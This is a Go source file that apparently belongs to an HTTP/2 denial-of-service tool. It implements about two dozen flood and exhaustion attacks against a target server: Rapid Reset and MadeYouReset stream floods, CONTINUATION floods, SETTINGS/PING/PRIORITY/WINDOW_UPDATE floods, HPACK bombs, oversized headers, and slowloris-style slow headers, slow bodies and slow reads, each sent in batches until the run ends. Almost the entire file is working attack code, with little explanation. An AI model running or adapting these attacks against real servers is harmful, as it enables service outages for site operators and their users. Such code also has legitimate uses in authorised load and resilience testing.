package main

import (
	"bytes"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Bytes of frames per write.
const batch = 16 << 10

// h2 is a connection whose frames are collected and written in batches.
type h2 struct {
	*tls.Conn
	of     *assault
	out    bytes.Buffer
	frames *http2.Framer
	stream uint32
}

// openH2 sends the preface and acknowledges the server's SETTINGS. If isRead, it reads and drops all further bytes.
func (a *assault) openH2(isRead bool, settings ...http2.Setting) (*h2, error) {
	secure, err := a.dialTLS("h2")
	if err != nil {
		return nil, err
	}
	c := &h2{Conn: secure, of: a, stream: 1}
	c.frames = http2.NewFramer(&c.out, nil)
	c.frames.AllowIllegalWrites = true
	c.out.WriteString(http2.ClientPreface)
	_ = c.frames.WriteSettings(settings...)
	if err := c.flush(); err != nil {
		secure.Close()
		return nil, err
	}
	// Without the ACK, some servers give up after a few seconds. The first frame of a server is its SETTINGS (RFC 9113 3.4).
	if _, err := io.ReadFull(secure, make([]byte, 9)); err != nil {
		secure.Close()
		return nil, err
	}
	_ = c.frames.WriteSettingsAck()
	if isRead {
		go func() {
			_, _ = io.Copy(io.Discard, secure)
			secure.Close()
		}()
	}
	return c, c.flush()
}

func (c *h2) flush() error {
	if c.out.Len() == 0 {
		return nil
	}
	_, err := c.Conn.Write(c.out.Bytes())
	c.out.Reset()
	return err
}

func (c *h2) next() uint32 {
	id := c.stream
	c.stream += 2
	return id
}

// block returns a header block that needs no dynamic table.
func block(fields ...string) []byte {
	var out bytes.Buffer
	encoder := hpack.NewEncoder(&out)
	for i := 0; i < len(fields); i += 2 {
		isStatic := fields[i] == ":method" || fields[i] == ":scheme"
		_ = encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1], Sensitive: !isStatic})
	}
	return out.Bytes()
}

func (a *assault) get(path string) []byte {
	return block(":method", "GET", ":scheme", "https", ":authority", a.to.name, ":path", path)
}

func (a *assault) post(path string) []byte {
	return block(":method", "POST", ":scheme", "https", ":authority", a.to.name, ":path", path)
}

func (c *h2) headers(id uint32, block []byte, isEnd bool) {
	_ = c.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: isEnd})
}

// floodH2 opens a connection and repeats the frames of one round, in batches, until a write fails or the assault ends.
func (a *assault) floodH2(isRead bool, settings []http2.Setting, begin func(c *h2), round func(c *h2)) error {
	c, err := a.openH2(isRead, settings...)
	if err != nil {
		return err
	}
	defer c.Close()
	if begin != nil {
		begin(c)
	}
	for a.ctx.Err() == nil && c.stream < 1<<30 {
		for c.out.Len() < batch {
			round(c)
			a.units.Add(1)
		}
		if err := c.flush(); err != nil {
			return err
		}
	}
	return nil
}

func h2RapidReset(a *assault) error {
	head := a.get(small)
	return a.floodH2(true, nil, nil, func(c *h2) {
		id := c.next()
		c.headers(id, head, true)
		_ = c.frames.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

func h2MadeReset(a *assault) error {
	head := a.get(small)
	return a.floodH2(true, nil, nil, func(c *h2) {
		id := c.next()
		c.headers(id, head, true)
		switch id / 2 % 3 {
		case 0:
			_ = c.frames.WriteWindowUpdate(id, 0)
		case 1:
			_ = c.frames.WriteWindowUpdate(id, 1<<31-1)
		default:
			_ = c.frames.WriteData(id, true, []byte{'x'})
		}
	})
}

func h2ContinuationEndless(a *assault) error {
	field := block("x-a", "b")
	return a.continuations(bytes.Repeat(field, 16<<10/len(field)))
}

func h2ContinuationEmpty(a *assault) error { return a.continuations(nil) }

func h2ContinuationSmall(a *assault) error { return a.continuations([]byte{0x90}) }

func (a *assault) continuations(fragment []byte) error {
	head := a.get(small)
	return a.floodH2(true, nil, func(c *h2) {
		_ = c.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: head})
	}, func(c *h2) {
		_ = c.frames.WriteContinuation(1, false, fragment)
	})
}

func h2EmptyData(a *assault) error {
	head := a.post(small)
	return a.floodH2(true, nil, func(c *h2) { c.headers(c.next(), head, false) }, func(c *h2) {
		_ = c.frames.WriteData(1, false, nil)
	})
}

func h2EmptyHeaders(a *assault) error {
	return a.floodH2(true, nil, nil, func(c *h2) { c.headers(c.next(), nil, true) })
}

func h2SettingsFlood(a *assault) error {
	return a.floodH2(true, nil, nil, func(c *h2) { _ = c.frames.WriteSettings() })
}

func h2SettingsToggle(a *assault) error {
	head := a.get(large)
	isWide := false
	return a.floodH2(true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(c *h2) {
		for range 100 {
			c.headers(c.next(), head, true)
		}
	}, func(c *h2) {
		isWide = !isWide
		var table, window uint32
		if isWide {
			table, window = 65536, 1
		}
		_ = c.frames.WriteSettings(
			http2.Setting{ID: http2.SettingHeaderTableSize, Val: table},
			http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	})
}

func h2PingFlood(a *assault) error {
	return a.floodH2(true, nil, nil, func(c *h2) { _ = c.frames.WritePing(false, [8]byte{}) })
}

func h2PingUnread(a *assault) error {
	return a.floodH2(false, nil, nil, func(c *h2) { _ = c.frames.WritePing(false, [8]byte{}) })
}

func h2PriorityFlood(a *assault) error {
	id := uint32(1)
	return a.floodH2(true, nil, nil, func(c *h2) {
		_ = c.frames.WritePriority(id, http2.PriorityParam{StreamDep: (id + 8) % 4096, Exclusive: true, Weight: uint8(id)})
		id = (id + 2) % 4096
	})
}

func h2PriorityUpdateFlood(a *assault) error {
	payload := append(binary.BigEndian.AppendUint32(nil, 0), "u=1, i"...)
	id := uint32(1)
	return a.floodH2(true, nil, nil, func(c *h2) {
		binary.BigEndian.PutUint32(payload, id)
		_ = c.frames.WriteRawFrame(0x10, 0, 0, payload)
		id = (id + 2) % 200
	})
}

func h2UnknownFlood(a *assault) error {
	payload := make([]byte, 8)
	return a.floodH2(true, nil, nil, func(c *h2) { _ = c.frames.WriteRawFrame(0xbb, 0, 0, payload) })
}

func h2WindowUpdateFlood(a *assault) error {
	return a.floodH2(true, nil, nil, func(c *h2) { _ = c.frames.WriteWindowUpdate(0, 1) })
}

func h2TinyWindows(a *assault) error {
	head := a.get(large)
	stream := uint32(1)
	return a.floodH2(true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1}}, func(c *h2) {
		for range 50 {
			c.headers(c.next(), head, true)
		}
	}, func(c *h2) {
		_ = c.frames.WriteWindowUpdate(stream, 1)
		stream = (stream + 2) % 100
	})
}

func h2ZeroWindow(a *assault) error {
	c, err := a.openH2(true, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return err
	}
	defer c.Close()
	head := a.get(large)
	for range 50 {
		c.headers(c.next(), head, true)
		a.units.Add(1)
	}
	if err := c.flush(); err != nil {
		return err
	}
	return c.untilClosed()
}

// untilClosed holds the connection until the server closes it. Use it only for connections that are read.
func (c *h2) untilClosed() error {
	for c.of.wait(500 * time.Millisecond) {
		_ = c.frames.WritePing(false, [8]byte{1})
		if err := c.flush(); err != nil {
			return err
		}
	}
	return nil
}

func h2HpackBomb(a *assault) error {
	// One field of 4,000 bytes enters the table; each further byte of the block refers to it.
	first := a.get(small)
	first = append(first, 0x40, 0x03, 'b', 'i', 'g')
	first = hpackLength(first, 4000)
	first = append(first, strings.Repeat("a", 4000)...)
	bomb := append(a.get(small), bytes.Repeat([]byte{0x80 | 62}, 8000)...)
	return a.floodH2(true, nil, func(c *h2) { c.headers(c.next(), first, true) }, func(c *h2) {
		c.headers(c.next(), bomb, true)
	})
}

// hpackLength appends the length of a string without Huffman coding (RFC 7541 5.1).
func hpackLength(out []byte, length int) []byte {
	if length < 127 {
		return append(out, byte(length))
	}
	out = append(out, 127)
	for length -= 127; length >= 128; length /= 128 {
		out = append(out, byte(length%128+128))
	}
	return append(out, byte(length))
}

func h2HpackTableSize(a *assault) error {
	// 0x20 is a table of 0 bytes, 3f e1 1f is one of 4,096 (RFC 7541 6.3).
	updates := bytes.Repeat([]byte{0x20, 0x3f, 0xe1, 0x1f}, 2000)
	head := append(updates, a.get(small)...)
	return a.floodH2(true, nil, nil, func(c *h2) { c.headers(c.next(), head, true) })
}

func h2HugeHeaders(a *assault) error {
	head := a.get(small)
	fields := bytes.Repeat(block("x-a", "b"), 2000)
	return a.floodH2(true, nil, nil, func(c *h2) {
		id := c.next()
		_ = c.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndStream: true})
		_ = c.frames.WriteContinuation(id, false, fields)
		_ = c.frames.WriteContinuation(id, true, fields)
	})
}

func h2SlowHead(a *assault) error {
	return a.trickleH2(func(c *h2) {
		_ = c.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), BlockFragment: a.get(small)})
	}, func(c *h2) { _ = c.frames.WriteContinuation(1, false, []byte{0x90}) })
}

func h2SlowBody(a *assault) error {
	return a.trickleH2(func(c *h2) {
		for range 50 {
			c.headers(c.next(), a.post(small), false)
		}
	}, func(c *h2) { _ = c.frames.WriteData(1, false, []byte{'x'}) })
}

func (a *assault) trickleH2(begin, drop func(c *h2)) error {
	c, err := a.openH2(true)
	if err != nil {
		return err
	}
	defer c.Close()
	begin(c)
	a.units.Add(1)
	for {
		if err := c.flush(); err != nil {
			return err
		}
		if !a.wait(200 * time.Millisecond) {
			return nil
		}
		drop(c)
		a.units.Add(1)
	}
}

func h2SlowRead(a *assault) error {
	c, err := a.openH2(false, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 20})
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.frames.WriteWindowUpdate(0, 1<<30)
	for range 10 {
		c.headers(c.next(), a.get(large), true)
	}
	if err := c.flush(); err != nil {
		return err
	}
	return a.sip(c)
}

// sip reads 1 KiB a second.
func (a *assault) sip(from io.Reader) error {
	into := make([]byte, 256)
	for a.wait(250 * time.Millisecond) {
		n, err := from.Read(into)
		a.units.Add(int64(n))
		if err != nil {
			if errors.Is(err, io.EOF) {
				return nil
			}
			return err
		}
	}
	return nil
}

func h2TinyData(a *assault) error {
	// Each upload stays within the windows that every server grants at first; then the next request follows.
	head := a.post(small)
	const most = 60_000
	c, err := a.openH2(true)
	if err != nil {
		return err
	}
	defer c.Close()
	for a.ctx.Err() == nil {
		id := c.next()
		c.headers(id, head, false)
		for sent := range most {
			_ = c.frames.WriteData(id, sent == most-1, []byte{'x'})
			if c.out.Len() >= batch {
				if err := c.flush(); err != nil {
					return err
				}
			}
		}
		a.units.Add(most)
		if err := c.flush(); err != nil {
			return err
		}
		if id > 1 {
			return nil // the connection's window is exhausted, too
		}
	}
	return nil
}
